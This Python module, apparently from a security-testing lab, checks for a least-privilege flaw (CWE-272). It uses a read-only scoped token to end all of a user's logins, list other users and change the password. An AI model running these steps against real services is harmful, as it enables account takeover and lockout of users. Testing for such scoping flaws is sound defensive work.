"""Log somebody out of everything, with a token that was to read the data.

Exploits a token that may do all that its user may, whatever it was given out for. A program that
only reads the data, or whoever steals its token, ends the log-ins of its owner, and sees who other
users are.
Source: CWE-272 Least Privilege Violation,
https://cwe.mitre.org/data/definitions/272.html
ASVS: 8.2.1, 10.3.2
"""

from collections.abc import Iterator

import httpx

from attacks.lab.attack import attack
from attacks.lab.outcome import Outcome, got_in, judge
from attacks.lab.scopes import SMALL, opened
from attacks.lab.target import NotApplicableError, Person, Target, borne
from attacks.lab.ways_out import MISSING, Tokens, change_password, goes_on, sid_of


def deeds(
    target: Target, owner: Person, token: str, phone: Tokens
) -> Iterator[tuple[str, httpx.Response]]:
    """Do what is not to read the data; first what does most."""
    for deed, path in {"end all log-ins": "", "end another log-in": f"/{sid_of(phone)}"}.items():
        yield deed, target.http.delete(f"/auth/logins{path}", headers=borne(token))
    for what, answer in opened(target, token, owner).items():
        yield f"see {what}", answer
    yield "change the password", change_password(target, owner, token, Person().password)


@attack(door="small-token")
def run(target: Target) -> Outcome:
    """Log in for the data alone, and do all that the owner may."""
    target.must_issue_tokens()
    target.must_read_tokens()
    owner = target.enrol()
    phone: Tokens = target.tokens_of(owner)
    if not opened(target, phone["access_token"], owner):
        raise NotApplicableError("there is nothing but the data here")
    small = target.tokens_of(owner, scope=SMALL)["access_token"]
    if not target.read(small).is_success:
        raise NotApplicableError("a token for the data does not open it here")
    answers = dict(deeds(target, owner, small, phone))
    outcome = judge({deed: it for deed, it in answers.items() if it.status_code not in MISSING})
    if not outcome.result.is_harm and goes_on(target, phone) is None:
        return got_in("a token for the data alone: the owner's other log-in is over")
    return outcome
